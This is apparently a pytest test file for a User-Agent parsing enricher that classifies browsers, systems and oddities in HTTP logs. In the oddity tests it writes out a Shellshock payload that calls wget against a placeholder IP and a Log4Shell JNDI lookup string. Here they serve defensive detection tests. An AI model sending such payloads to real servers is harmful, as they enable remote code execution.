"""User agents: the tables and their examples, what real User-Agents come to, and what hostile ones cannot do."""

from __future__ import annotations

import time
from pathlib import Path

import plain
import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from enrich import fingerprints
from enrich.enrichers.user_agents import (
    ADDS,
    ENRICHER,
    FALLBACK,
    FAMILIES,
    FIELDS,
    FOLDER,
    FORMAL,
    KINDS,
    LIMIT,
    LIMITS,
    NUMBERS,
    ODDITIES,
    PROGRAMS,
    RELEASES,
    SYSTEMS,
    Agent,
    Releases,
    UserAgents,
    number,
)
from enrich.fingerprints import Fingerprints
from enrich.model import Memo
from enrich.tables import Tables, provenance

TABLES = Tables()
USER_AGENTS = UserAgents(TABLES)
ODDITY_NAMES = FORMAL | {
    "empty",
    "one word",
    "no platform",
    "no browser",
    "Mozilla misspelt",
    "impossible version",
    "several systems",
    "engine and family disagree",
    "browser and system disagree",
    "header name inside",
    "placeholder",
    "attack text",
    "attack tool",
    "malware",
}
PLACES = [*PROGRAMS, ODDITIES, FALLBACK]


def load(name: str) -> Fingerprints:
    return fingerprints.load(TABLES.path(name), FIELDS)


# -- tables ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", PLACES)
def test_every_example_matches_its_own_rule_first(name: str) -> None:
    table = load(name)
    assert table.check() >= len(table.rules) > 0


@pytest.mark.parametrize("name", PROGRAMS)
def test_no_table_takes_an_example_from_a_later_one(name: str) -> None:
    for rule in load(name).rules:
        for example in rule.examples:
            found = USER_AGENTS._programs.first(example.text)
            assert found is not None
            assert found[0] == rule, f"{name}: {rule.id} loses {example.text!r} to {found[0].id}"


def test_every_table_of_the_folder_is_declared_and_says_where_it_comes_from() -> None:
    files = {f"{FOLDER}/{path.name}" for path in TABLES.path(FOLDER).iterdir()}
    assert files == set(ENRICHER.tables)
    assert all(provenance(TABLES.path(name)).licence == "BSD-3-Clause" for name in files)


@pytest.mark.parametrize("name", PLACES)
def test_rules_keep_to_the_vocabulary(name: str) -> None:
    systems = set(TABLES.csv(SYSTEMS)["name"])
    for rule in load(name).rules:
        assert rule.constants.get("kind", "other") in KINDS, rule.id
        assert rule.constants.get("oddity", "empty") in ODDITY_NAMES, rule.id
        assert rule.constants.get("os", "linux").lower() in systems, rule.id
        assert rule.constants.get("mobile", "no") == "no", rule.id
        assert set(rule.constants) == {"oddity"} or name != ODDITIES, rule.id


def test_systems_are_spelt_as_banners_spell_them() -> None:
    banners = {_folded(os): os for os in TABLES.csv("banners/systems.csv")["os"]}
    ours = set(TABLES.csv(SYSTEMS)["os"]) | set(TABLES.csv(RELEASES)["os"])
    assert {os for os in ours if banners.get(_folded(os), os) != os} == {"iOS"}  # and Cisco's IOS is another
    assert set(TABLES.csv(RELEASES)["os"]) <= set(TABLES.csv(SYSTEMS)["os"])


def test_look_up_tables_have_one_row_a_key_and_known_values() -> None:
    families, systems, releases = TABLES.csv(FAMILIES), TABLES.csv(SYSTEMS), TABLES.csv(RELEASES)
    assert families["family"].is_unique().all()
    assert set(families["kind"]) <= set(KINDS) - {"browser", "mobile"}
    assert systems["name"].is_unique().all()
    assert (systems["name"] == systems["name"].str.to_lowercase()).all()
    assert set(systems["mobile"].drop_nulls()) == {"yes"}
    assert set(systems["release"].drop_nulls()) == {"no"}
    assert not releases.select("system", "first").is_duplicated().any()
    assert set(releases["system"]) == {*NUMBERS, "darwin_ios"}
    for first, last in releases.select("first", "last").iter_rows():
        assert number(first)[: len(number(last))] <= number(last), (first, last)
    assert set(TABLES.csv(LIMITS)["family"]) == {"IE", "Chrome", "Edge", "Firefox"}


def _folded(name: str) -> str:
    return "".join(char for char in name.casefold() if char.isalnum())


@pytest.mark.parametrize(
    ("system", "text", "expected"),
    [
        ("nt", "6.1.7601", ("Windows", "7")),
        ("nt", "10.0.19045", ("Windows", "10")),
        ("nt", "10.0.20348.1", ("Windows", "Server 2022")),
        ("nt", "10.0.26100", ("Windows", "11")),
        ("nt", "7.1", None),
        ("darwin", "14.5.0", ("Mac OS X", "10.10.5")),
        ("darwin", "11.4.2", ("Mac OS X", "10.7.5")),
        ("darwin", "22.4.0", ("Mac OS X", "13.3")),
        ("darwin_ios", "19.6.0", ("iOS", "13.6")),
        ("darwin_ios", "11.0.0", ("iOS", None)),
        ("apt", "1.8.2.3", ("Debian", "10")),
        ("apt", "1.8.3", ("Ubuntu", "19.04")),
        ("apt", "2.4.11", ("Ubuntu", "22.04")),
        ("apt", "2.9.30", None),
        ("apt", "", None),
        ("api", "33", ("Android", "13")),
    ],
)
def test_numbers_tell_releases(system: str, text: str, expected: tuple[str, str | None] | None) -> None:
    assert Releases(TABLES.csv(RELEASES).iter_rows()).find(system, text) == expected


# -- what User-Agents say ----------------------------------------------------------------------------------------------

KNOWN = (Path(__file__).parent / "user_agents.txt").read_text("utf-8").splitlines()[1:]


@pytest.mark.parametrize("row", KNOWN, ids=lambda row: row.rpartition(" | ")[2][:60])
def test_what_a_user_agent_says(row: str) -> None:
    *expected, text = row.split(" | ")
    kind, family, version, os, os_version = (None if value == "-" else value for value in expected)
    agent = USER_AGENTS.parse(text)
    got = (agent.kind, agent.family, agent.version, agent.os, agent.os_version)
    assert got == (kind, family, version, os, os_version)
    assert agent.oddity is None


@pytest.mark.parametrize(
    ("oddity", "text"),
    [
        ("empty", ""),
        ("empty", "  \t "),
        ("one word", "loader"),
        ("one word", "vBKbaQgjyvRRbcgfvlsc"),
        ("no platform", "Mozilla/5.0"),
        ("no platform", "Mozilla/4.0 (compatible)"),
        ("no browser", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
        ("Mozilla misspelt", "mozilla/5.0 (Windows NT 10.0; Win64; x64)"),
        ("impossible version", "Mozilla/4.0 (compatible; MSIE 14.0; Windows NT 6.1)"),
        ("impossible version", "Mozilla/5.0 (Windows NT 11.0; rv:115.0) Gecko/20100101 Firefox/115.0"),
        ("impossible version", "Mozilla/6.0 (Windows NT 6.2; WOW64; rv:16.0.1) Gecko/20121011 Firefox/16.0.1"),
        ("several systems", "Mozilla/5.0 (Windows NT 10.0; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0"),
        ("engine and family disagree", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0.0.0 Safari/537.36"),
        ("engine and family disagree", "Mozilla/5.0 (Windows NT 6.1; rv:115.0) Gecko/20100101 Firefox/78.0"),
        ("engine and family disagree", "Mozilla/4.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/4.0)"),
        ("browser and system disagree", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 6.1)"),
        (
            "browser and system disagree",
            "Mozilla/5.0 (Windows NT 5.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        ),
        ("attack text", "() { :; }; /bin/bash -c 'wget http://192.0.2.1/a'"),
        ("attack text", "${jndi:ldap://192.0.2.1:1389/a}"),
        ("header name inside", "User-Agent: Mozilla/5.0 (Windows NT 10.0)"),
        ("placeholder", "(null)"),
    ],
)
def test_what_is_odd_is_said_and_no_browser_is_believed(oddity: str, text: str) -> None:
    agent = USER_AGENTS.parse(text)
    assert (agent.oddity, agent.kind) == (oddity, "other")


@pytest.mark.parametrize(
    ("oddity", "kind", "text"),
    [
        ("too long", "tool", "curl/8.4.0 " + "a" * LIMIT),
        ("control characters", "tool", "curl/8.4.0\x1b[31m"),
        ("unbalanced parentheses", "browser", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1"),
        ("malware", "bot", "Hello, World"),
        ("attack tool", "bot", "ZmEu"),
    ],
)
def test_what_is_odd_in_form_or_named_keeps_its_kind(oddity: str, kind: str, text: str) -> None:
    agent = USER_AGENTS.parse(text)
    assert (agent.oddity, agent.kind) == (oddity, kind)


@pytest.mark.parametrize("release", [78, 102, 109, 110, 115, 119, 120, 133])
def test_a_firefox_on_its_own_engine_is_not_odd(release: int) -> None:
    frozen = 109 if 110 <= release < 120 else release
    text = f"Mozilla/5.0 (X11; Linux x86_64; rv:{frozen}.0) Gecko/20100101 Firefox/{release}.0"
    assert USER_AGENTS.parse(text) == Agent("Firefox", f"{release}.0", "Linux", None, None, "browser", None)


# -- as an enricher ----------------------------------------------------------------------------------------------------


def test_the_enricher_answers_row_by_row_and_nothing_for_an_absent_header() -> None:
    keys = pl.DataFrame({"user_agent": ["curl/8.4.0", None, "", "Transmission/3.00", None]}, schema=ENRICHER.keys)
    work = ENRICHER.prepare(TABLES)
    out = work(keys)
    assert out.schema == pl.Schema(ENRICHER.adds)
    assert out["kind"].to_list() == ["tool", None, "other", "other", None]
    assert out["oddity"].to_list() == [None, None, "empty", None, None]
    assert out.row(1) == (None,) * len(ADDS)
    assert work(keys.clear()).schema == out.schema
    assert Memo(("user_agent",), ADDS, work).apply(keys).frame().equals(out)


def test_a_site_lays_its_own_rules_and_rows_over_the_shipped_ones(tmp_path: Path) -> None:
    head = '[table]\nsource = "us"\nlicence = "ours"\ndate = "2026-01-01"\n'
    rule = "[[fingerprint]]\nid = 'shop'\nabout = 'our shop'\nmatch = '^curl/(?P<version>[\\d.]+)-shop'\n"
    more = "set = { family = 'Shop', kind = 'library' }\n[[fingerprint.examples]]\ntext = 'curl/1.2-shop'\n"
    (tmp_path / "own.toml").write_text(head + rule + more + "fields = { version = '1.2' }\n")
    (tmp_path / "families.csv").write_text("# ours\nfamily,kind\nKonqueror,tool\n")
    (tmp_path / "releases.csv").write_text("system,first,last,os,os_version\nnt,6.1,6.1,Windows,seven\n")
    (tmp_path / "site.toml").write_text(
        f"[tables]\n{FOLDER} = 'own.toml'\n'{FAMILIES}' = 'families.csv'\n'{RELEASES}' = 'releases.csv'\n"
    )
    site = UserAgents(Tables.load(tmp_path / "site.toml"))
    assert site.parse("curl/1.2-shop") == Agent("Shop", "1.2", kind="library")
    assert site.parse("curl/8.4.0").kind == "tool"
    assert site.parse("Mozilla/5.0 (compatible; Konqueror/4.5; FreeBSD) KHTML/4.5.4 (like Gecko)").kind == "tool"
    assert site.parse("Microsoft-CryptoAPI/6.1").os_version == "seven"


# -- whatever a client sends -------------------------------------------------------------------------------------------

WORDS = (
    "Mozilla/5.0 ( ) ; compatible; MSIE 6.0 Windows NT 10.0 Trident/7.0 rv:109.0 Gecko/20100101 Firefox/115.0 "
    "AppleWebKit/537.36 Chrome/120.0.0.0 Safari/537.36 CFNetwork/978 Darwin/18.7.0 (x86_64) Android 10; K) Linux; "
    "curl/8.0 Update +http://a.b ${jndi: bot Build/ Quest BPC 1.2 OS: 99999999999.1 Debian APT-HTTP/1.3"
)
PIECES = st.sampled_from([*WORDS.split(), *" \t\r\n\x00\x1b\x7f\x85\xa0é漢\ud800\u202e"])
MADE = st.lists(PIECES, max_size=40).map(" ".join)


def _sound(agent: Agent) -> None:
    assert agent.kind in KINDS
    assert agent.oddity is None or agent.oddity in ODDITY_NAMES
    for name in ADDS:
        value = getattr(agent, name)
        assert value is None or (value.isprintable() and 0 < len(value) <= LIMIT), (name, value)


@given(st.text(max_size=300))
def test_any_text_is_read(text: str) -> None:
    _sound(USER_AGENTS.parse(text))


@given(MADE)
@settings(max_examples=400)
def test_anything_made_of_what_user_agents_are_made_of_is_read(text: str) -> None:
    _sound(USER_AGENTS.parse(text))
    assert USER_AGENTS.parse(text) == USER_AGENTS.parse(text)


@given(MADE, st.text(max_size=50))
def test_only_the_beginning_counts(text: str, rest: str) -> None:
    start = (text + "a" * LIMIT)[:LIMIT]
    short, long = USER_AGENTS.parse(start), USER_AGENTS.parse(start + "b" + rest)
    short.oddity = long.oddity = None
    assert short == long


REPEATED = (
    "( a 1. ; é Bot bot| spider| Android| Build/ HTC x86_64| http:// ${jndi: BPC|1; CFNetwork/1|Darwin/ Mozilla/5.0|( "
    "Windows|NT|6.1;| rv:1.)|Gecko/1|Firefox/ [FBAN/a;FBAV/1; MSIE|7.0;|Trident/7.0;| X|Update/1. Chrome/1.1.1.1| "
    '"distro":{'
)


@pytest.mark.parametrize("piece", [*REPEATED.replace("|", "\xa0").split(" "), "\x00"])
def test_the_cost_grows_no_faster_than_the_text(piece: str) -> None:
    def cost(length: int) -> float:
        text = ("Mozilla/5.0 (" + piece.replace("\xa0", " ") * length)[:length]
        return min(_seconds(text) for _ in range(5))

    assert cost(LIMIT) < 32 * max(cost(LIMIT // 8), 25e-6)


def _seconds(text: str) -> float:
    start = time.process_time()
    for _ in range(3):
        USER_AGENTS.parse(text)
    return time.process_time() - start


def test_real_user_agents_are_named(shared: Path) -> None:
    """Every distinct User-Agent of the real logs gets a kind, and nearly every one a family."""
    logs = [path for path in shared.rglob("*http*.log*") if path.is_file() and "corrupt" not in path.name]
    texts = {row.get("user_agent") for path in logs for row in plain.records(path)} - {None}
    assert len(texts) > 50
    agents = [USER_AGENTS.parse(str(text)) for text in texts]
    for agent in agents:
        _sound(agent)
    assert sum(agent.family is not None for agent in agents) > 0.9 * len(agents)
    assert sum(agent.kind != "other" for agent in agents) > 0.7 * len(agents)
